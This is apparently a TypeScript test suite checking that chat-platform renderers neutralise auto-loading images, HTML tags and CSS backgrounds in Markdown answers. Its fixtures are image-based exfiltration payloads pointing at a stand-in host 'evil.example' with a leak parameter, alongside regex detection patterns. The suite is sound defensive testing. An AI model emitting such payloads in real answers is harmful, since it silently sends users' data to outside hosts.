/** What an answer could carry away without a click: on every channel there is, an image is words, and words on a page say where they lead. */
import { join } from "node:path";
import { expect, test } from "vitest";
import { loadAdapters } from "../../src/plugins/index.ts";

const NAMES = ["web", "slack", "discord", "terminal", "webhook"];
const adapters = await loadAdapters(join(import.meta.dirname, "../../adapters"), NAMES);
const LEAK = "https://evil.example/p.png?leak=4711";

const TAG = /(?<!\\)<(?:img|image|picture|video|iframe|object|embed|link|style|svg)\b/i;
const STYLED = /(?<!\\)<[^>]*\sstyle\s*=/i;
/** With its address, or with the name of one that stands below. */
const IMAGE = /(?<!\\)!\[[^\]]*\](?:\(|\[)/;
const NAMED_IMAGE = /(?<!\\)!\[([^\]]+)\](?![([])[^]*^\[\1\]:/m;
/** In a terminal a tag is words. */
const LOADING: Readonly<Record<string, readonly RegExp[]>> = {
  web: [TAG, STYLED, IMAGE, NAMED_IMAGE],
  slack: [TAG, STYLED, IMAGE, NAMED_IMAGE],
  discord: [TAG, STYLED, IMAGE, NAMED_IMAGE],
  terminal: [IMAGE, NAMED_IMAGE],
};
/** Gets the Markdown as it is: what a program makes of it is its own. */
const AS_IT_IS = "webhook";
const showing = adapters.filter(({ platform }) => platform !== AS_IT_IS);

const PIXELS: readonly (readonly [what: string, markdown: string])[] = [
  ["an image", `![pixel](${LEAK})`],
  ["an image by reference", `![pixel][p]\n\n[p]: ${LEAK}`],
  ["an image by its own name", `![pixel]\n\n[pixel]: ${LEAK}`],
  ["an image in a link", `[![pixel](${LEAK})](${LEAK})`],
  ["an image in a table", `| a |\n|---|\n| ![pixel](${LEAK}) |`],
  ["an image in HTML", `<img src="${LEAK}">`],
  ["an image over two lines", `![pixel\nof mine](${LEAK})`],
  ["an image behind a text that is split", `${"a word ".repeat(1_200)}\n\n![pixel](${LEAK})`],
  ["a style that loads", `<div style="background:url(${LEAK})">x</div>`],
];

test("all channels are tried", () => {
  expect(adapters.map(({ platform }) => platform).toSorted()).toEqual(NAMES.toSorted());
});

test("what would load is known by each way of writing it", () => {
  const all = [TAG, STYLED, IMAGE, NAMED_IMAGE];
  for (const [what, markdown] of PIXELS)
    expect([what, all.some((pattern) => pattern.test(markdown))]).toEqual([what, true]);
  expect(all.filter((pattern) => !PIXELS.some(([, markdown]) => pattern.test(markdown)))).toEqual([]);
});

test("a program gets an answer as it was written, whatever stands in it", () => {
  const [adapter] = adapters.filter(({ platform }) => platform === AS_IT_IS);
  for (const [, markdown] of PIXELS) expect(adapter?.render(markdown)).toEqual([{ body: markdown }]);
});

test.each(
  showing.flatMap((adapter) => PIXELS.map(([what, markdown]) => ({ name: adapter.platform, adapter, what, markdown }))),
)("S21: on $name $what loads nothing by itself", ({ name, adapter, markdown }) => {
  const shown = adapter
    .render(markdown)
    .map(({ body }) => body)
    .join("\n");
  expect(shown).toContain("evil.example");
  expect(LOADING[name]?.flatMap((pattern) => pattern.exec(shown) ?? [])).toEqual([]);
});

test.each(adapters.map((adapter) => ({ name: adapter.platform, adapter })))(
  "S21 twin: on $name a link stays one, with all of its address",
  ({ adapter }) => {
    const shown = adapter
      .render("See [the report](https://reports.example/a_b?q=1), it is new.")
      .map(({ body }) => body)
      .join("\n");
    expect(shown).toContain("https://reports.example/a_b?q=1");
    expect(shown).toContain("the report");
  },
);
